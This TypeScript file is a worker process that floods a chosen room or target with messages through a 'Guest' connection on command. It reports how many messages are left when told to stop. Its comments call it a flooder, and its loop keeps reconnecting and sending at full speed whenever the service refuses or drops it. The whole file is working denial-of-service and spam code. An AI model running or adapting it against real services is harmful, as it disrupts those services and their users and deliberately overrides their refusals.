/**
 * A process that floods when told whom, until it has sent all or is told to stop; then it tells how many messages are left.
 * Cut off or refused, it tries on.
 */
import { Guest } from './guest.ts';

export interface Flood { port: number; room: string; target: string; address: string; messages: number }

let left = 0;
let isStopped = true;

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => { setTimeout(resolve, ms); });
}

function isDue(): boolean {
  return left > 0 && !isStopped;
}

async function floodOnce({ port, room, target, address }: Flood): Promise<void> {
  const guest = await Guest.enter(port, room, address);
  guest.onClose = () => {};
  while (isDue() && guest.isOpen()) {
    for (const end = Math.max(0, left - 100); left > end; left--) guest.send(target);
    // As fast as the kernel takes it, in a memory of its own that does not grow.
    do await pause(0); while (guest.waiting > 1_000_000 && guest.isOpen() && isDue());
  }
  guest.close();
}

process.on('message', (order: Flood | 'stop') => {
  if (order === 'stop') {
    isStopped = true;
    process.send?.(left);
    return;
  }
  isStopped = false;
  left = order.messages;
  void (async () => {
    // A refusal is what a flooder is told, and does not listen to.
    while (isDue()) await floodOnce(order).catch(() => pause(20));
  })();
});
process.once('disconnect', () => { process.exit(); });
process.send?.('ready');
